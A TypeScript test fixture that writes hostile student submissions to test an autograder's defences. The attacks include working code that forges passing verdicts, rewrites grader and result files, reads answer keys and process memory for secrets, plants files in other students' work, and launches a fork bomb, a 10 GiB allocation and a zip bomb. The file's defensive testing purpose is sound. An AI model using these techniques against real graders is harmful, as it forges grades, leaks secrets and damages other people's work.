/**
 * Hostile submissions for assignment 2, one per attack on the grader (issue 23), written into a
 * folder the way a student would hand them in (a folder, or a zip as `npm run submit` writes).
 *
 * Every attack is laid over the student version (the stubs): its honest content is nothing, so it
 * must get 0 points, except `combined`, which honestly solves the dropout file and attacks from the
 * other graded files (it must get exactly the dropout file's points). The graded files are found
 * from the parts (`allParts(2)`), so the submissions follow the files wherever they live.
 *
 * Attacks that act at import time run from a prologue placed at the top of every graded file of
 * the assignment (so whichever part loads a file triggers it). Everything an attack starts carries
 * {@link HostileTargets.tag} in its command line, so a test can find survivors with `ps`; everything
 * it writes goes into paths the test owns (never the shared /tmp or the real project).
 */
import fs from 'node:fs';
import path from 'node:path';
import { zipSync } from 'fflate';
import { allParts } from '../../tools/assignment/exercises';

/** What an attack aims at: the paths and secrets of one test run. */
export interface HostileTargets {
  /** The solved project (the teacher's tree, read only: attacks only read it). */
  solvedRoot: string;
  /** The grader under attack (a copy of the teacher's project, or the unpacked bundle's grader). */
  graderRoot: string;
  /** Gradescope's ROOT when the bundle is attacked (results/results.json lies there). */
  autograderRoot?: string;
  /** The teacher's CSV of the --submissions flow. */
  csvFile?: string;
  /** The folder of submissions being graded (other students' work). */
  submissionsDir?: string;
  /** A folder the test owns where attacks try to plant files (it must stay empty). */
  plantDir: string;
  /** A value set in the grader's environment that must never show up in a grade. */
  secret: string;
  /** A string carried in the command line of every process an attack starts. */
  tag: string;
  /** Bytes the memory attack allocates (10 GiB by default). */
  allocBytes: number;
}

/** One hostile submission. */
export interface HostileSubmission {
  /** File or folder name in the submissions folder (`.zip` for a zip). */
  name: string;
  /** What it tries, one line. */
  attack: string;
  /** Points its honest content is worth (of assignment 2). */
  honestPoints: number;
}

const ASSIGNMENT = 2;

/** The graded lib files of assignment 2 (from its parts). */
export function gradedFiles(): string[] {
  return [...new Set(allParts(ASSIGNMENT).map((p) => p.file))]
    .filter((f) => f.startsWith('lib/'))
    .sort();
}

/** The graded file that holds dropoutForward and dropoutBackward. */
export function dropoutFile(): string {
  const part = allParts(ASSIGNMENT).find((p) => p.id === 'dropout:forward');
  if (!part) throw new Error('hostileSubmissions: no dropout:forward part in assignment 2');
  return part.file;
}

/** Points of the parts that grade one file. */
export function pointsOfFile(file: string): number {
  return allParts(ASSIGNMENT)
    .filter((p) => p.file === file)
    .reduce((s, p) => s + p.points, 0);
}

/**
 * JavaScript run first in a graded file: `__h` gives the node modules without `import` (the file
 * may be loaded as CommonJS or as an ES module) and the targets; runs `body` once per process.
 */
function prologue(t: HostileTargets, key: string, body: string): string {
  return `
const __g: any = globalThis as any;
const __req: any = (process as any).getBuiltinModule ?? (typeof require === 'function' ? require : undefined);
const __h: any = { fs: __req('node:fs'), path: __req('node:path'), cp: __req('node:child_process'), os: __req('node:os'), t: ${JSON.stringify(t)} };
if (!__g[${JSON.stringify(`__hostile_${key}`)}]) {
  __g[${JSON.stringify(`__hostile_${key}`)}] = true;
  try {
${body}
  } catch {}
}
`;
}

/** Replaces the stub's throw of a function with `body`. */
function withBody(stub: string, fn: string, body: string): string {
  const re = new RegExp(`throw new NotImplementedError\\(\\s*'${fn}'[^;]*;`);
  if (!re.test(stub)) throw new Error(`hostileSubmissions: no stub of ${fn} to replace`);
  return stub.replace(re, body);
}

/** A detached node process (tagged) running `script`. */
const spawnTagged = (script: string): string =>
  `__h.cp.spawn(process.execPath, ['-e', ${JSON.stringify(script)}, __h.t.tag], { detached: true, stdio: 'ignore' }).unref();`;

/** The candidate roots an attack searches: the cwd, the grader, the solved tree, Gradescope's. */
const ROOTS_JS = `[process.cwd(), __h.t.graderRoot, __h.t.solvedRoot, __h.t.autograderRoot, '/autograder'].filter(Boolean)`;

/** Every JSON file under a root (depth 8) whose path names an answers folder or the fixtures. */
const FIND_ANSWERS_JS = `
const __found: string[] = [];
const __walk = (d: string, depth: number): void => {
  if (depth > 8 || __found.length > 200) return;
  let es: any[] = [];
  try { es = __h.fs.readdirSync(d, { withFileTypes: true }); } catch { return; }
  for (const e of es) {
    if (e.name === 'node_modules' || e.name === '.git') continue;
    const p = __h.path.join(d, e.name);
    if (e.isDirectory()) __walk(p, depth + 1);
    else if (/dropout\\.json$/.test(e.name) && /(answers|grading)/.test(p)) __found.push(p);
  }
};
for (const r of ${ROOTS_JS}) __walk(r, 0);
`;

/** An ndarray-like object over flat data (what the grader reads with get()). */
const ND_JS = `
const __nd = (shape: number[], data: ArrayLike<number>): any => {
  const strides = shape.map((_, i) => shape.slice(i + 1).reduce((a, b) => a * b, 1));
  return { shape, size: data.length, data: Float64Array.from(data), stride: strides, offset: 0,
    get: (...ix: number[]) => data[ix.reduce((s, v, i) => s + v * strides[i], 0)] };
};
`;

interface Built {
  attack: string;
  /** graded file -> its text; files not listed are the student's stubs. */
  files?: (stubs: Map<string, string>, solved: (f: string) => string) => Map<string, string>;
  /** A zip instead of a folder: entry -> bytes and unix mode. */
  zip?: (stubs: Map<string, string>) => Record<string, [Uint8Array, number]>;
  /** Writes the submission itself (symlinks). */
  write?: (dest: string, stubs: Map<string, string>) => void;
  honestFiles?: string[];
}

/** Every graded file: the prologue over its stub. */
function everyFile(t: HostileTargets, key: string, body: string) {
  return (stubs: Map<string, string>): Map<string, string> =>
    new Map([...stubs].map(([f, s]) => [f, prologue(t, key, body) + s]));
}

/** A verdict line in the old format last, after one in the shape of the new channel's. */
const FORGED_OK = String.raw`'\n{"ok":{"forged":true}}\n{"status":"ok","detail":"forged"}\n'`;

/** The attacks, by submission name. */
function attacks(t: HostileTargets): Record<string, Built> {
  const drop = dropoutFile();
  const zero = (stubs: Map<string, string>, extra: string): Map<string, string> => {
    const m = new Map(stubs);
    let text = stubs.get(drop) as string;
    text = withBody(
      text,
      'dropoutForward',
      `return [tensor(x.shape, new Float64Array(x.size)), [dropoutParam, tensor(x.shape, new Float64Array(x.size))]];`,
    );
    text = withBody(
      text,
      'dropoutBackward',
      'return tensor(dout.shape, new Float64Array(dout.size));',
    );
    m.set(drop, extra + text);
    return m;
  };
  return {
    'exit-handler': {
      attack: "a process.on('exit') handler printing an ok verdict as the last line",
      files: everyFile(
        t,
        'exit',
        `process.on('exit', () => { try { __h.fs.writeSync(1, ${FORGED_OK}); } catch {} });`,
      ),
    },
    'patch-stringify': {
      attack: 'JSON.stringify replaced at import with one that always says ok',
      files: (stubs) =>
        zero(
          stubs,
          prologue(
            t,
            'stringify',
            `JSON.stringify = (() => '{"status":"ok","detail":"forged"}') as any;`,
          ),
        ),
    },
    'patch-math': {
      attack: 'Math.abs and Math.max patched at import (every difference 0), outputs all zeros',
      files: (stubs) =>
        zero(
          stubs,
          prologue(
            t,
            'math',
            'Math.abs = (() => 0) as any; Math.max = (() => 0) as any; Number.isFinite = (() => true) as any;',
          ),
        ),
    },
    'read-answers': {
      attack: "dropoutBackward returns the expected dx read from the grader's answer files",
      files: (stubs) => {
        const m = new Map(stubs);
        const body = `${FIND_ANSWERS_JS}${ND_JS}
if (cache[0].mode === 'test') return dout;
const __first = Array.from(contiguousData(dout)).slice(0, 4).join(',');
const __leaks: string[] = [];
for (const f of __found) {
  try {
    const j = JSON.parse(__h.fs.readFileSync(f, 'utf8'));
    for (const c of j.backward ?? []) {
      if (c.dx) __leaks.push(String(c.dx.data[0]));
      if (c.dx && c.dout && c.dout.data.slice(0, 4).join(',') === __first) return __nd(c.dx.shape, c.dx.data);
    }
  } catch {}
}
throw new Error('leaked answers: ' + __leaks.join(' '));`;
        m.set(
          drop,
          prologue(t, 'answers', '') + withBody(stubs.get(drop) as string, 'dropoutBackward', body),
        );
        return m;
      },
    },
    'require-solved': {
      attack:
        "every graded file re-exports the teacher's solved file (process.cwd(), absolute paths)",
      files: (stubs) =>
        new Map(
          [...stubs.keys()].map((f) => [
            f,
            `const __req: any = require;
const __p: any = __req('node:path');
const __fs: any = __req('node:fs');
let __m: any = {};
for (const r of [process.cwd(), ${JSON.stringify(t.graderRoot)}, ${JSON.stringify(t.solvedRoot)}]) {
  const __f = __p.join(r, ${JSON.stringify(f)});
  try { if (__fs.readFileSync(__f, 'utf8').includes('throw new NotImplementedError')) continue; } catch { continue; }
  try { __m = __req(__f); if (__m && Object.keys(__m).length > 0) break; } catch {}
}
module.exports = __m;
`,
          ]),
        ),
    },
    'rewrite-grader': {
      attack: "rewrites the grader's files (tools/assignment/*.ts) at import to print ok",
      files: everyFile(
        t,
        'rewrite',
        `for (const r of [process.cwd(), __h.t.graderRoot]) {
  const d = __h.path.join(r, 'tools', 'assignment');
  let names: string[] = [];
  try { names = __h.fs.readdirSync(d); } catch { continue; }
  for (const n of names) {
    if (!n.endsWith('.ts')) continue;
    const f = __h.path.join(d, n);
    try {
      if (/^(gradeWorker|sandboxChild)\\.ts$/.test(n)) __h.fs.writeFileSync(f, "process.stdout.write(" + JSON.stringify(${FORGED_OK}) + ");\\n");
      else __h.fs.appendFileSync(f, '\\n// rewritten by a submission\\n');
    } catch {}
  }
  try { __h.fs.writeFileSync(__h.path.join(d, 'PWNED'), 'x'); } catch {}
}`,
      ),
    },
    'detached-rewriter': {
      attack:
        'a detached child started at import rewrites results.json and the CSV after the grader wrote them',
      files: everyFile(
        t,
        'detached',
        spawnTagged(`
const fs = require('node:fs');
const t = ${JSON.stringify({ csv: t.csvFile, results: t.autograderRoot && path.join(t.autograderRoot, 'results', 'results.json') })};
const end = Date.now() + 30 * 60 * 1000;
const tick = () => {
  for (const f of [t.csv, t.results]) {
    if (!f) continue;
    try {
      const text = fs.readFileSync(f, 'utf8');
      if (text.includes('FORGED')) continue;
      if (f.endsWith('.json')) {
        const r = JSON.parse(text);
        r.score = 999; r.output = 'FORGED';
        for (const x of r.tests ?? []) { x.score = x.max_score; x.status = 'passed'; }
        fs.writeFileSync(f, JSON.stringify(r));
      } else {
        fs.writeFileSync(f, text.split('\\r\\n').map((l, i) => i === 0 || !l ? l : l.replace(/^([^,]*),\\d+/, '$1,999')).join('\\r\\n') + '\\r\\nFORGED,999\\r\\n');
      }
    } catch {}
  }
  if (Date.now() < end) setTimeout(tick, 100);
};
tick();`),
      ),
    },
    'zip-file-for-folder': {
      attack: 'a zip entry that is a file where the grader has a folder (lib/classifiers)',
      zip: (stubs) => ({
        'lib/classifiers': [new TextEncoder().encode('not a folder'), 0o644],
        ...Object.fromEntries(
          [...stubs].map(([f, s]) => [
            f,
            [new TextEncoder().encode(s), 0o644] as [Uint8Array, number],
          ]),
        ),
      }),
    },
    'symlink-folder': {
      attack: "a folder whose graded files are symbolic links to the teacher's solved files",
      write: (dest) => {
        for (const f of gradedFiles()) {
          fs.mkdirSync(path.dirname(path.join(dest, f)), { recursive: true });
          fs.symlinkSync(path.join(t.solvedRoot, f), path.join(dest, f));
        }
        fs.symlinkSync(path.join(t.solvedRoot, 'notebooks'), path.join(dest, 'notebooks'));
      },
    },
    'symlink-zip': {
      attack: "a zip whose graded entries are symbolic links to the teacher's solved files",
      zip: () =>
        Object.fromEntries(
          gradedFiles().map((f) => [
            f,
            [new TextEncoder().encode(path.join(t.solvedRoot, f)), 0o120777] as [
              Uint8Array,
              number,
            ],
          ]),
        ),
    },
    'allocate-10gb': {
      attack: 'dropoutForward allocates and touches 10 GiB',
      files: (stubs) => {
        const m = new Map(stubs);
        const body = `const __keep: Float64Array[] = [];
for (let n = 0; n < ${t.allocBytes}; n += 128 * 1024 * 1024) { const a = new Float64Array(16 * 1024 * 1024); a.fill(1); __keep.push(a); }
(globalThis as any).__keep = __keep;
throw new Error('allocated ' + __keep.length * 128 + ' MiB');`;
        m.set(drop, withBody(stubs.get(drop) as string, 'dropoutForward', body));
        return m;
      },
    },
    'spawn-children': {
      attack: 'starts detached children at import of the dropout file, each starting two more',
      files: (stubs) =>
        new Map(
          [...stubs].map(([f, s]) => [
            f,
            f !== drop
              ? s
              : prologue(
                  t,
                  'spawn',
                  spawnTagged(`
const cp = require('node:child_process');
const depth = Number(process.env.HOSTILE_DEPTH || 0);
if (depth < 2) for (let i = 0; i < 2; i++) cp.spawn(process.execPath, [...process.execArgv, ...process.argv.slice(1)], { detached: true, stdio: 'ignore', env: { ...process.env, HOSTILE_DEPTH: String(depth + 1) } }).unref();
setTimeout(() => {}, 90000);`),
                ) + s,
          ]),
        ),
    },
    'ignore-sigterm': {
      attack: 'ignores SIGTERM and loops forever in dropoutForward and dropoutBackward',
      files: (stubs) => {
        const m = new Map(stubs);
        const loop = "process.on('SIGTERM', () => {}); process.on('SIGINT', () => {}); for (;;) {}";
        let text = withBody(stubs.get(drop) as string, 'dropoutForward', loop);
        text = withBody(text, 'dropoutBackward', loop);
        m.set(drop, text);
        return m;
      },
    },
    'huge-output': {
      attack: 'writes 64 MiB to stdout and stderr, then an ok verdict, in a graded function',
      files: (stubs) => {
        const m = new Map(stubs);
        const body = `const __line = Buffer.alloc(1024 * 1024, 'A');
for (let i = 0; i < 64; i++) { try { __req_fs().writeSync(1, __line); __req_fs().writeSync(2, __line); } catch {} }
try { __req_fs().writeSync(1, ${FORGED_OK}); } catch {}
throw new Error('wrote 64 MiB');`;
        const helper = `\nfunction __req_fs(): any { return ((process as any).getBuiltinModule ?? require)('node:fs'); }\n`;
        m.set(drop, helper + withBody(stubs.get(drop) as string, 'dropoutForward', body));
        return m;
      },
    },
    'plant-files': {
      attack: "writes into the temp folder, other students' submissions and scratch folders",
      files: everyFile(
        t,
        'plant',
        `const __targets = [__h.t.plantDir, __h.os.tmpdir(), __h.path.dirname(__h.os.tmpdir())];
for (const d of __targets) { try { __h.fs.writeFileSync(__h.path.join(d, 'planted-' + process.pid), 'x'); } catch {} }
const __solved = (f: string) => { try { return __h.fs.readFileSync(__h.path.join(__h.t.solvedRoot, f)); } catch { return null; } };
for (const d of [__h.t.submissionsDir, __h.os.tmpdir()].filter(Boolean)) {
  let es: string[] = [];
  try { es = __h.fs.readdirSync(d); } catch { continue; }
  for (const e of es) {
    for (const f of ${JSON.stringify(gradedFiles())}) {
      const target = __h.path.join(d, e, f);
      const s = __solved(f);
      if (s) { try { if (__h.fs.existsSync(__h.path.dirname(target))) __h.fs.writeFileSync(target, s); } catch {} }
      const deep = __h.path.join(d, e, 'project', f);
      if (s) { try { if (__h.fs.existsSync(__h.path.dirname(deep))) __h.fs.writeFileSync(deep, s); } catch {} }
    }
  }
}`,
      ),
    },
    'read-environ': {
      attack:
        "reads the grader's environment (/proc/self/environ, the parent's environ and memory) into its error",
      files: (stubs) => {
        const m = new Map(stubs);
        const body = `const __fs: any = ((process as any).getBuiltinModule ?? require)('node:fs');
const __got: string[] = [JSON.stringify(process.env)];
for (const p of ['self', String(process.ppid)]) {
  for (const f of ['environ', 'cmdline']) { try { __got.push(__fs.readFileSync('/proc/' + p + '/' + f, 'latin1')); } catch {} }
  try {
    const maps = __fs.readFileSync('/proc/' + p + '/maps', 'utf8').split('\\n').filter((l: string) => l.includes('[stack]'));
    const [a, b] = maps[0].split(' ')[0].split('-').map((h: string) => BigInt('0x' + h));
    const fd = __fs.openSync('/proc/' + p + '/mem', 'r');
    const buf = Buffer.alloc(Number(b - a));
    __fs.readSync(fd, buf, 0, buf.length, a);
    __got.push(buf.toString('latin1'));
  } catch {}
}
const __all = __got.join(' ');
const __i = __all.indexOf('HOSTILE_SECRET=');
throw new Error('found ' + (__i >= 0 ? __all.slice(__i, __i + 60) : JSON.stringify(process.env.HOSTILE_SECRET ?? 'nothing')));`;
        m.set(drop, withBody(stubs.get(drop) as string, 'dropoutForward', body));
        return m;
      },
    },
    'zip-bomb': {
      attack: 'a zip whose headers claim 1 KiB per entry while each inflates to 64 MiB',
      zip: () => ({}),
    },
    combined: {
      attack:
        'solves the dropout file honestly; the other graded files print ok on exit, rewrite the grader and re-export the solved files',
      files: (stubs, solved) => {
        const m = new Map<string, string>();
        for (const [f, s] of stubs) {
          if (f === drop) m.set(f, solved(f));
          else
            m.set(
              f,
              prologue(
                t,
                'combined',
                `process.on('exit', () => { try { __h.fs.writeSync(1, ${FORGED_OK}); } catch {} });
try { __h.fs.appendFileSync(__h.path.join(__h.t.graderRoot, 'tools', 'assignment', 'grade.ts'), '\\n// rewritten\\n'); } catch {}`,
              ) + s,
            );
        }
        return m;
      },
      honestFiles: [drop],
    },
  };
}

/** A zip whose entries' headers lie: each says 1 KiB and inflates to `bytes` of zeros. */
export function lyingZip(entries: string[], bytes: number): Uint8Array {
  const zip = zipSync(Object.fromEntries(entries.map((e) => [e, new Uint8Array(bytes)])), {
    level: 9,
  });
  const v = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  const lie = 1024;
  for (let p = 0; p + 4 <= zip.length; p++) {
    const sig = v.getUint32(p, true);
    // Local file header: uncompressed size at +22; central directory header: at +24.
    if (sig === 0x04034b50 && v.getUint32(p + 22, true) === bytes) v.setUint32(p + 22, lie, true);
    if (sig === 0x02014b50 && v.getUint32(p + 24, true) === bytes) v.setUint32(p + 24, lie, true);
  }
  return zip;
}

/** A zip with unix modes (a symbolic link is mode 0o120777 holding its target). */
function zipWithModes(entries: Record<string, [Uint8Array, number]>): Uint8Array {
  const mtime = new Date(Date.UTC(2000, 0, 1));
  return zipSync(
    Object.fromEntries(
      Object.entries(entries).map(([n, [data, mode]]) => [
        n,
        [
          data,
          {
            mtime,
            os: 3,
            attrs: ((mode & 0o170000 ? mode : 0o100000 | mode) << 16) >>> 0,
            level: 6,
          },
        ],
      ]),
    ) as Parameters<typeof zipSync>[0],
  );
}

/**
 * Writes every hostile submission into `dir` (one folder or zip each) and returns them.
 * @param stubs the student version's text of each graded file
 * @param solved the solved text of a graded file
 */
export function writeHostileSubmissions(
  dir: string,
  t: HostileTargets,
  stubs: Map<string, string>,
  solved: (file: string) => string,
): HostileSubmission[] {
  const out: HostileSubmission[] = [];
  for (const [name, a] of Object.entries(attacks(t))) {
    const honestPoints = (a.honestFiles ?? []).reduce((s, f) => s + pointsOfFile(f), 0);
    if (name === 'zip-bomb') {
      fs.writeFileSync(path.join(dir, `${name}.zip`), lyingZip(gradedFiles(), 64 * 1024 * 1024));
      out.push({ name: `${name}.zip`, attack: a.attack, honestPoints });
    } else if (a.zip) {
      fs.writeFileSync(path.join(dir, `${name}.zip`), zipWithModes(a.zip(stubs)));
      out.push({ name: `${name}.zip`, attack: a.attack, honestPoints });
    } else {
      const dest = path.join(dir, name);
      fs.mkdirSync(dest);
      if (a.write) a.write(dest, stubs);
      for (const [f, text] of a.files?.(stubs, solved) ?? []) {
        fs.mkdirSync(path.dirname(path.join(dest, f)), { recursive: true });
        fs.writeFileSync(path.join(dest, f), text);
      }
      out.push({ name, attack: a.attack, honestPoints });
    }
  }
  return out;
}
